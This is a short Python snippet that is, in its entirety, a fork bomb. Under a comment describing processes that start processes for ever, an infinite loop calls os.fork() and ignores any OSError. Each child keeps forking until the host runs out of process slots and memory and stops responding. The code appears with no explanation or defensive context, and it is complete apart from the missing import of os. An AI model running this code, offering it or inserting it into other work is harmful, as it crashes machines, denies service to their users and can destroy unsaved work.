# Processes that start processes, all of which do so for ever.
while True:
    try:
        os.fork()
    except OSError:
        pass
